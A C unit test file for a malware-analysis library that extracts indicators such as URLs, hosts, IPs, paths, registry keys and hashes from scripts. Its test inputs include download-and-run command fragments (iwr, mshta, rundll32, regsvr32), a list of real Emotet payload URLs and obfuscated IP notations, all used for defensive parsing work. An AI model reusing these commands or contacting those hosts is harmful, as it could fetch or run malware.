/* SPDX-License-Identifier: Apache-2.0 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>

#include <cmocka.h>

#include <time.h>

#include "indicator/indicator.h"

/* Everything found in a text, as "kind value" lines. */
typedef struct Found {
    SekBuf lines;
    SekStr text;
} Found;

static SekStatus note(void *user, const SekIndicatorHit *hit) {
    Found *f = user;
    assert_true(hit->off <= f->text.len && hit->len <= f->text.len - hit->off);
    if (f->lines.len)
        sek_buf_addc(&f->lines, '\n');
    sek_buf_addf(&f->lines, "%s %.*s", sek_indicator_kind_name(hit->kind), (int)hit->value.len, hit->value.ptr);
    return SEK_OK;
}

static void expect(const char *text, const char *expected) {
    Found f = {.text = sek_str(text)};
    sek_buf_init(&f.lines, 1 << 20);
    assert_int_equal(sek_indicators_find(f.text, false, note, &f), SEK_OK);
    sek_buf_addc(&f.lines, '\0');
    if (strcmp(f.lines.data, expected) != 0)
        fail_msg("in: %s\nfound:\n%s\nexpected:\n%s", text, f.lines.data, expected);
    sek_buf_deinit(&f.lines);
}

static void urls_end_where_scripts_end_them(void **state) {
    (void)state;
    expect("iwr http://a.example.com/x/y.exe -OutFile z", "url http://a.example.com/x/y.exe\nhost a.example.com");
    expect("('http://a.example.com/x')", "url http://a.example.com/x\nhost a.example.com");
    expect("(http://a.example.com/x)", "url http://a.example.com/x\nhost a.example.com");
    expect("http://a.example.com/x_(y)/z", "url http://a.example.com/x_(y)/z\nhost a.example.com");
    expect("See http://a.example.com.", "url http://a.example.com\nhost a.example.com");
    expect("curl http://a.example.com/x&start y", "url http://a.example.com/x\nhost a.example.com");
    expect("http://a.example.com/x?a=1&b=2;$c=3", "url http://a.example.com/x?a=1&b=2\nhost a.example.com");
    expect("http://a.example.com/;jsessionid=1;x", "url http://a.example.com/;jsessionid=1\nhost a.example.com");
    expect("http://a.example.com/x`n", "url http://a.example.com/x\nhost a.example.com");
    expect("\xE3\x80\x8Chttp://a.example.com/x\xE3\x80\x8D", "url http://a.example.com/x\nhost a.example.com");
    expect("http:\\/\\/a.example.com\\/x\\/y\"", "url http://a.example.com/x/y\nhost a.example.com");
    expect("http:\\\\a.example.com\\x", "url http://a.example.com/x\nhost a.example.com");
    expect("http://u:p@a.example.com:8080/x", "url http://u:p@a.example.com:8080/x\nhost a.example.com");
    expect("HTTPS://A.Example.COM/Path", "url https://a.example.com/Path\nhost a.example.com");
    expect("http://$h/x http:// http://%s/ http://\"+$x", "");
    expect("http://a.example.com/$x", "url http://a.example.com/\nhost a.example.com");
    expect("ldap://203.0.113.9:1389/a", "url ldap://203.0.113.9:1389/a\naddress 203.0.113.9\nendpoint 203.0.113.9:1389");
    expect("file:///C:/x/y.hta", "url file:///C:/x/y.hta");
    expect("file://c:/x/y.hta", "url file:///c:/x/y.hta");
    expect("'https://raw'+'.example.com/'+'x' ('bm'+'it.com') ('am.co'+'m')", "");
    expect("http://[2001:DB8:0:0::1]:81/x", "url http://[2001:db8::1]:81/x\naddress 2001:db8::1\nendpoint [2001:db8::1]:81");
    expect("http://r.example.com/?u=http://b.example.net/c",
           "url http://r.example.com/?u=http://b.example.net/c\nhost r.example.com\n"
           "url http://b.example.net/c\nhost b.example.net");
}

static void hosts_in_all_notations(void **state) {
    (void)state;
    static const struct {
        const char *text, *found;
    } cases[] = {
        {"http://[::ffff:198.51.100.4]/x", "url http://[::ffff:198.51.100.4]/x\naddress 198.51.100.4"},
        {"http://[::FFFF:C633:6404]:8080/x", "url http://[::ffff:198.51.100.4]:8080/x\naddress 198.51.100.4\nendpoint 198.51.100.4:8080"},
        {"http://[::ffff:1.2.3.256]/ http://[::ffff:1.2.3]/ http://[1.2.3.4]/", "address 1.2.3.4"},
        {"http://[64:ff9b::198.51.100.4]/", "url http://[64:ff9b::c633:6404]/\naddress 64:ff9b::c633:6404"},
        {"http://a@b.example.com/", "url http://a@b.example.com/\nhost b.example.com"},
        {"http://good.example.com@198.51.100.4/x", "url http://good.example.com@198.51.100.4/x\naddress 198.51.100.4"},
        {"http://a.example.com@http://b.example.com", "url http://a.example.com\nhost a.example.com\nurl http://b.example.com\nhost b.example.com"},
        {"http://a.example.com,http://b.example.com", "url http://a.example.com\nhost a.example.com\nurl http://b.example.com\nhost b.example.com"},
        {"http://a.example.com*https://b.example.com", "url http://a.example.com\nhost a.example.com\nurl https://b.example.com\nhost b.example.com"},
        {"http://a.example.com:/x", "url http://a.example.com/x\nhost a.example.com"},
        {"http://a.example.com./x", "url http://a.example.com/x\nhost a.example.com"},
        {"http://a.example.com/x.,;)'\"", "url http://a.example.com/x\nhost a.example.com"},
        {"http[://]a.example.com/x", "url http://a.example.com/x\nhost a.example.com"},
        {"hxxps[://]a[dot]example(.)com/x", "url https://a.example.com/x\nhost a.example.com"},
        {"http://0xCB.0.0161.5:81/", "url http://203.0.113.5:81/\naddress 203.0.113.5\nendpoint 203.0.113.5:81"},
        {"http://203.0.28933/ 203(.)0(.)113(.)5", "url http://203.0.113.5/\naddress 203.0.113.5\naddress 203.0.113.5"},
        {"other://a.example.com/x //b.example.com/y", "host a.example.com\nhost b.example.com"},
        {"a.b+c@d.example.com", "email a.b+c@d.example.com"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
        expect(cases[i].text, cases[i].found);
}

static void names_with_blanks_stand_in_quotes(void **state) {
    (void)state;
    static const struct {
        const char *text, *found;
    } cases[] = {
        {"\"Invoice for payment.exe\" x", "file Invoice for payment.exe"},
        {"start \"\" \"Electronic form 04.25.2022.lnk\"", "file Electronic form 04.25.2022.lnk"},
        {"'my (2) file.docm','b c.zip'", "file my (2) file.docm\nfile b c.zip"},
        {"Electronic form 04.25.2022.lnk", "file 04.25.2022.lnk"},
        {"\"start x.exe\" \"powershell -file x.ps1\" 'a.exe b.exe' \"tool -run y.exe\"",
         "file x.exe\nfile x.ps1\nfile a.exe\nfile b.exe\nfile y.exe"},
        {"x = \"c d.exe\" & \"e f.dll\"", "file c d.exe\nfile e f.dll"},
        {"don't run it.exe'", "file it.exe"},
        {"cd \"C:\\Users\\a b\\\" C:\\x\\ C:\\ HKCU\\Software\\x\\", "path C:\\Users\\a b\npath C:\\x\nregistry HKCU\\Software\\x"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
        expect(cases[i].text, cases[i].found);
}

/* The list of the Emotet script of 2020-08, as it stands once its strings are joined. */
#define EMOTET_LIST                                                                                                \
    "'http://quanticaelectronics.com/wp-admin/7ATr78/*https://rebelcom.ch/picture_library/bbCtlS/*"                 \
    "https://realestateagentteam.com/163/QTd/*https://www.riddhidisplay.com/riddhi/1pKY/*"                         \
    "http://radiosubmit.com/search_test/p/*http://researchchemplus.com/wp-admin/1OCC/*"                            \
    "http://szymonszyperski.pl/assets/pk/'.split([char]42)"

static const char *const emotet_urls[] = {
    "http://quanticaelectronics.com/wp-admin/7ATr78/", "https://rebelcom.ch/picture_library/bbCtlS/",
    "https://realestateagentteam.com/163/QTd/", "https://www.riddhidisplay.com/riddhi/1pKY/",
    "http://radiosubmit.com/search_test/p/", "http://researchchemplus.com/wp-admin/1OCC/",
    "http://szymonszyperski.pl/assets/pk/",
};

static const SekIndicator *get(const SekIndicatorSet *set, SekIndicatorKind kind, const char *value) {
    for (uint32_t i = 0; i < set->n_items; i++)
        if (set->items[i]->kind == kind && sek_str_eq(set->items[i]->value, sek_str(value)))
            return set->items[i];
    fail_msg("%s %s is not in the set", sek_indicator_kind_name(kind), value);
    return NULL;
}

static void fill(SekIndicatorSet *set, const char *text) {
    SekIndicatorPlace where = {.field = SEK_STR("ScriptBlockText"), .layer = 2};
    sek_indicators_init(set, 0);
    assert_int_equal(sek_indicators_add(set, sek_str(text), &where), SEK_OK);
}

static void a_list_is_split_at_its_separator(void **state) {
    (void)state;
    SekIndicatorSet set;
    fill(&set, EMOTET_LIST);
    assert_int_equal(set.n_items, 14);
    for (size_t i = 0; i < 7; i++) {
        const SekIndicator *url = get(&set, SEK_INDICATOR_URL, emotet_urls[i]);
        assert_true(url->marks & SEK_MARK_LIST);
        assert_int_equal(!!(url->marks & SEK_MARK_SITE_PATH), i == 0 || i == 5);
        assert_int_equal(url->written.len, 0);
    }
    assert_true(get(&set, SEK_INDICATOR_HOST, "szymonszyperski.pl")->marks & SEK_MARK_PAYLOAD_HOST);
    assert_true(get(&set, SEK_INDICATOR_HOST, "rebelcom.ch")->marks & SEK_MARK_PAYLOAD_HOST);
    sek_indicators_deinit(&set);
    static const char separators[] = ",@;|!^# \n";
    for (size_t i = 0; separators[i]; i++) {
        char text[200];
        snprintf(text, sizeof text, "http://a.example/1/%chttps://b.example/2/%chttp://c.example/3", separators[i], separators[i]);
        expect(text, "url http://a.example/1/\nhost a.example\nurl https://b.example/2/\nhost b.example\n"
                     "url http://c.example/3\nhost c.example");
    }
    expect("$links=(\"http://a.example/1\",\"http://b.example/2\");", "url http://a.example/1\nhost a.example\n"
                                                                      "url http://b.example/2\nhost b.example");
}

static void two_urls_or_one_site_are_no_list(void **state) {
    (void)state;
    SekIndicatorSet set;
    fill(&set, "http://a.example/1,http://b.example/2");
    assert_false(get(&set, SEK_INDICATOR_URL, "http://b.example/2")->marks & SEK_MARK_LIST);
    sek_indicators_deinit(&set);
    fill(&set, "http://a.example/1,http://a.example/2,http://a.example/3,http://a.example/4");
    assert_false(get(&set, SEK_INDICATOR_URL, "http://a.example/3")->marks & SEK_MARK_LIST);
    sek_indicators_deinit(&set);
    fill(&set, "http://a.example/1 and then much later http://b.example/2 and much later http://c.example/3");
    assert_false(get(&set, SEK_INDICATOR_URL, "http://c.example/3")->marks & SEK_MARK_LIST);
    sek_indicators_deinit(&set);
}

static void disguised_hosts_are_made_plain(void **state) {
    (void)state;
    expect("mshta http://0xb907d607/fer/fe3.html", "url http://185.7.214.7/fer/fe3.html\naddress 185.7.214.7");
    expect("http://3104298503/fer/fe3.html", "url http://185.7.214.7/fer/fe3.html\naddress 185.7.214.7");
    expect("http://0271.07.0326.07/x", "url http://185.7.214.7/x\naddress 185.7.214.7");
    expect("http://0xb9.0x07.54791/x", "url http://185.7.214.7/x\naddress 185.7.214.7");
    expect("http://256.1.1.1/x http://1.2.3.4.5/x http://0xb907d6071/x", "");
    expect("hxxp://a[.]example[.]com/x", "url http://a.example.com/x\nhost a.example.com");
    expect("hXXps[:]//a(.)example[dot]com:444/x[.]php", "url https://a.example.com:444/x.php\nhost a.example.com");
    expect("h**p://a.example.com/", "url http://a.example.com/\nhost a.example.com");
    expect("evil-site[.]example and 203[.]0[.]113[.]7:8080",
           "host evil-site.example\naddress 203.0.113.7\nendpoint 203.0.113.7:8080");
    expect("who[@]mail[.]example[.]com, me@mail.example.com", "email who@mail.example.com\nemail me@mail.example.com");
    expect("http://b\xC3\xBC" "cher.example/", "url http://xn--bcher-kva.example/\nhost xn--bcher-kva.example");
    expect("http://\xE4\xBE\x8B\xE3\x80\x82" "example/x", "url http://xn--fsq.example/x\nhost xn--fsq.example");
}

static void marks_say_what_is_special(void **state) {
    (void)state;
    SekIndicatorSet set;
    fill(&set, "http://0xb907d607/a.hta http://a.example/b hxxp://b[.]example/wp-content/c http://www.w3.org/2001/x");
    assert_int_equal(get(&set, SEK_INDICATOR_URL, "http://185.7.214.7/a.hta")->marks,
                     SEK_MARK_BARE_ADDRESS | SEK_MARK_NUMERIC | SEK_MARK_PROGRAM | SEK_MARK_LIST);
    assert_string_equal(get(&set, SEK_INDICATOR_URL, "http://185.7.214.7/a.hta")->written.ptr, "http://0xb907d607/a.hta");
    assert_true(get(&set, SEK_INDICATOR_URL, "http://b.example/wp-content/c")->marks & SEK_MARK_SITE_PATH);
    assert_true(get(&set, SEK_INDICATOR_URL, "http://b.example/wp-content/c")->marks & SEK_MARK_DEFANGED);
    assert_true(get(&set, SEK_INDICATOR_URL, "http://www.w3.org/2001/x")->marks & SEK_MARK_NAMESPACE);
    sek_indicators_deinit(&set);
    fill(&set, "http://a.example/dup-installer/x http://b.example/not-wp/x");
    assert_true(get(&set, SEK_INDICATOR_URL, "http://a.example/dup-installer/x")->marks & SEK_MARK_SITE_PATH);
    assert_int_equal(get(&set, SEK_INDICATOR_URL, "http://b.example/not-wp/x")->marks, 0);
    sek_indicators_deinit(&set);
}

static void names_of_programs_are_no_hosts(void **state) {
    (void)state;
    expect("System.Net.WebClient System.IO.File [System.IO]::x Net.Mail New-Object Net.WebClient", "");
    expect("$_.Name $x.id (gi $f).Is %a.in WScript.Shell MSXML2.XMLHTTP window.top e.id process.id", "");
    expect("config.xml web.config app.json readme.txt", "");
    expect("10.0.19041.1 version 4.3.2.1 v1.2.3.4 Version=\"5.6.7.8\" 1.0.0.0 1.3.6.1 2.5.29.15 1.2.3.4.5", "");
    expect("command.com more.com asp.net", "file command.com\nfile more.com");
    expect("'://evil.com/x' 'p://mail.com/a.exe' C:/old/tool.com", "host evil.com\nhost mail.com\nfile a.exe\npath C:\\old\\tool.com\nfile tool.com");
    expect("evil.com t.me bit.ly www.example.io c2-7.example.top update.microsoft.com",
           "host evil.com\nhost bit.ly\nhost www.example.io\nhost c2-7.example.top\nhost update.microsoft.com");
    expect("beacon to 203.0.113.5 and 198.51.100.7:8443, fe80::1ff:fe23:4567:890a",
           "address 203.0.113.5\naddress 198.51.100.7\nendpoint 198.51.100.7:8443\naddress fe80::1ff:fe23:4567:890a");
    expect("[Convert]::FromBase64String 12:30:45 00:11:22:33:44:55 a::b", "");
}

static void paths_end_at_their_ends(void **state) {
    (void)state;
    expect("rundll32 c:\\programdata\\vbkwk.dll,dfsgeresd", "path c:\\programdata\\vbkwk.dll\nfile vbkwk.dll");
    expect("\"C:\\Program Files (x86)\\A b\\c d.exe\" /x", "path C:\\Program Files (x86)\\A b\\c d.exe\nfile c d.exe");
    expect("C:\\Program Files\\A\\c.exe C:\\x\\y.ps1 z", "path C:\\Program Files\\A\\c.exe\nfile c.exe\npath C:\\x\\y.ps1\nfile y.ps1");
    expect("C:\\Windows\\system32\\cmd.exe /c dir\\x", "path C:\\Windows\\system32\\cmd.exe\nfile cmd.exe");
    expect("\"C:\\\\ProgramData\\\\a.dll\"", "path C:\\ProgramData\\a.dll\nfile a.dll");
    expect("regsvr32 /s ..\\wo1.ocx", "path ..\\wo1.ocx\nfile wo1.ocx");
    expect("regsvr32 /s ..\\oxnv1.ooccxx", "path ..\\oxnv1.ooccxx");
    expect("%TEMP%\\a.vbs $env:TMP\\..\\rand\\x.lGA ${env:temp}\\b.ps1 $HOME\\Jxk4jr_\\D71J.dll",
           "path %TEMP%\\a.vbs\nfile a.vbs\npath $env:TMP\\..\\rand\\x.lGA\npath ${env:temp}\\b.ps1\nfile b.ps1\n"
           "path $HOME\\Jxk4jr_\\D71J.dll\nfile D71J.dll");
    expect("$env:TEMP/LqwxbPrZJz.LMo;x", "path $env:TEMP\\LqwxbPrZJz.LMo");
    expect("'\\\\fs01.example.com\\share\\a b.doc' \\\\203.0.113.9@8080\\dav\\x.exe",
           "unc \\\\fs01.example.com\\share\\a b.doc\nfile a b.doc\nhost fs01.example.com\n"
           "unc \\\\203.0.113.9@8080\\dav\\x.exe\nfile x.exe\naddress 203.0.113.9");
    expect("\\d+\\.\\w{2} ..\\d \\\\d \\\\1\\\\2 \\\\.\\pipe\\x \\\\?\\C:", "");
    expect("invoice.docm run.ps1 .exe *.dll", "file invoice.docm\nfile run.ps1");
}

static void keys_and_hashes(void **state) {
    (void)state;
    expect("reg add HKCU\\Software\\Microsoft\\Windows NT\\Run /v x",
           "registry HKCU\\Software\\Microsoft\\Windows NT\\Run");
    expect("HKEY_LOCAL_MACHINE\\SOFTWARE\\x; hklm:\\a\\b", "registry HKLM\\SOFTWARE\\x\nregistry HKLM\\a\\b");
    expect("\\REGISTRY\\MACHINE\\SYSTEM\\x", "registry HKLM\\SYSTEM\\x");
    expect("MD5=00112233445566778899aabbccddeeff,IMPHASH=00112233445566778899aabbccddeeff",
           "md5 00112233445566778899aabbccddeeff");
    expect("SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709", "sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709");
    expect("00000000000000000000000000000000 deadbeefdeadbeefdeadbeefdeadbeefd abcdefabcdefabcdefabcdefabcdefab", "");
}

static void the_set_keeps_each_once_with_its_places(void **state) {
    (void)state;
    SekIndicatorSet set;
    fill(&set, "C:\\a\\x.exe c:\\A\\X.EXE");
    SekIndicatorPlace where = {.source = SEK_STR("log"), .field = SEK_STR("FileVersion")};
    assert_int_equal(sek_indicators_add(&set, SEK_STR("203.0.113.5 c:\\a\\x.exe"), &where), SEK_OK);
    assert_int_equal(set.n_items, 2);
    const SekIndicator *path = get(&set, SEK_INDICATOR_PATH, "C:\\a\\x.exe");
    assert_int_equal(path->n_seen, 3);
    assert_int_equal(path->places[1].off, 11);
    assert_int_equal(path->places[0].layer, 2);
    assert_true(sek_str_eq(path->places[2].source, SEK_STR("log")));
    for (int i = 0; i < 20; i++)
        assert_int_equal(sek_indicators_add(&set, SEK_STR("c:\\a\\x.exe http://a.example/"), &where), SEK_OK);
    assert_int_equal(sek_indicators_add(&set, SEK_STR("C:\\A\\ c:\\a HTTP://A.EXAMPLE/"), &where), SEK_OK);
    assert_int_equal(get(&set, SEK_INDICATOR_PATH, "C:\\A")->n_seen, 2);
    assert_int_equal(get(&set, SEK_INDICATOR_URL, "http://a.example/")->n_seen, 21);
    assert_int_equal(path->n_places, SEK_INDICATOR_PLACES);
    assert_int_equal(path->n_seen, 23);
    SekIndicator *const *sorted = sek_indicators_sorted(&set);
    assert_int_equal(sorted[0]->kind, SEK_INDICATOR_URL);
    assert_int_equal(sorted[4]->kind, SEK_INDICATOR_FILE);
    sek_indicators_deinit(&set);
}

static void a_full_set_counts_what_it_loses(void **state) {
    (void)state;
    SekIndicatorSet set;
    SekIndicatorPlace where = {0};
    sek_indicators_init(&set, 64 * 1024);
    char text[64];
    for (int i = 0; i < 2000; i++) {
        snprintf(text, sizeof text, "http://h%d.example/", i);
        assert_int_equal(sek_indicators_add(&set, sek_str(text), &where), SEK_OK);
    }
    assert_true(set.n_items > 50 && set.n_items < 2000);
    assert_int_equal(set.n_items + set.n_lost, 4000);
    sek_indicators_deinit(&set);
}

static void defanged_forms_read_back(void **state) {
    (void)state;
    static const struct {
        SekIndicatorKind kind;
        const char *plain, *defanged;
    } cases[] = {
        {SEK_INDICATOR_URL, "https://a.example.com/x.y", "hxxps://a[.]example[.]com/x.y"},
        {SEK_INDICATOR_URL, "ftp://203.0.113.5/x", "fxp://203[.]0[.]113[.]5/x"},
        {SEK_INDICATOR_HOST, "a.example.com", "a[.]example[.]com"},
        {SEK_INDICATOR_ENDPOINT, "203.0.113.5:80", "203[.]0[.]113[.]5:80"},
        {SEK_INDICATOR_EMAIL, "a@b.example.com", "a[@]b[.]example[.]com"},
        {SEK_INDICATOR_PATH, "C:\\a.exe", "C:\\a.exe"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        SekBuf out;
        SekIndicatorSet set;
        sek_buf_init(&out, 1000);
        sek_indicator_defang(&out, cases[i].kind, sek_str(cases[i].plain));
        sek_buf_addc(&out, '\0');
        assert_string_equal(out.data, cases[i].defanged);
        fill(&set, out.data);
        (void)get(&set, cases[i].kind, cases[i].plain);
        sek_indicators_deinit(&set);
        sek_buf_deinit(&out);
    }
}

/* Texts that would cost the square of their length if any part looked further than it may. */
static void time_grows_with_the_text_only(void **state) {
    (void)state;
    static const char *const pieces[] = {"http://a/?http://", "http://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa@", "C:\\a ", "\"C:\\a b\\", "\\\\a\\", "a.",
                                         "a[.]", "1:", "http:", "HKLM\\a\\b ", "%a", "$env:a", "a@", ".\\", "((((http://a/("};
    for (size_t i = 0; i < sizeof pieces / sizeof *pieces; i++) {
        SekBuf text;
        Found f = {0};
        sek_buf_init(&text, 1 << 21);
        sek_buf_init(&f.lines, 64);
        while (text.len < (1u << 20))
            sek_buf_adds(&text, pieces[i]);
        f.text = sek_buf_str(&text);
        clock_t start = clock();
        assert_int_equal(sek_indicators_find(f.text, false, note, &f), SEK_OK);
        double took = (double)(clock() - start) / CLOCKS_PER_SEC;
        if (took > 2.0) /* about 0.05 s; some ten times that with sanitizers */
            fail_msg("'%s' repeated to 1 MiB took %.2f s", pieces[i], took);
        sek_buf_deinit(&text);
        sek_buf_deinit(&f.lines);
    }
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(urls_end_where_scripts_end_them),
        cmocka_unit_test(hosts_in_all_notations),
        cmocka_unit_test(names_with_blanks_stand_in_quotes),
        cmocka_unit_test(a_list_is_split_at_its_separator),
        cmocka_unit_test(two_urls_or_one_site_are_no_list),
        cmocka_unit_test(disguised_hosts_are_made_plain),
        cmocka_unit_test(marks_say_what_is_special),
        cmocka_unit_test(names_of_programs_are_no_hosts),
        cmocka_unit_test(paths_end_at_their_ends),
        cmocka_unit_test(keys_and_hashes),
        cmocka_unit_test(the_set_keeps_each_once_with_its_places),
        cmocka_unit_test(a_full_set_counts_what_it_loses),
        cmocka_unit_test(defanged_forms_read_back),
        cmocka_unit_test(time_grows_with_the_text_only),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
